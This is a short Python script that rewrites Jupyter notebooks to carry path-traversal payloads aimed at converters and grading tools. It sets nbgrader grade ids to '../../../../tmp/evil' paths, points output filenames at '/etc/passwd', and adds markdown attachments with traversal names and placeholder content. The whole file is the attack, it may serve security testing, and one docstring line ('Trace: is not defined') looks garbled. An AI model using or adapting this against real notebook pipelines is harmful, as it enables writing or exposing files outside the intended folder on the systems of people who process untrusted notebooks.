"""Gives cells ids that are paths, and attachments whose names lead out of the folder.

Works on converters that write an attachment or an output to a file of its name.
Trace: is not defined
"""


def make(notebook):
    for number, cell in enumerate(notebook.cells):
        if "nbgrader" not in cell.metadata:
            marks = {"grade_id": f"../../../../tmp/evil{number}", "grade": False, "solution": True}
            cell.metadata["nbgrader"] = marks | {"locked": False, "schema_version": 3}
            cell.metadata["filenames"] = {"image/png": "/etc/passwd"}
        if cell.cell_type == "markdown":
            cell.attachments = {"../../../../tmp/evil.png": {"image/png": "aGFja2Vk"}}
            cell.source += "\n![](attachment:../../../../tmp/evil.png)"
    return notebook
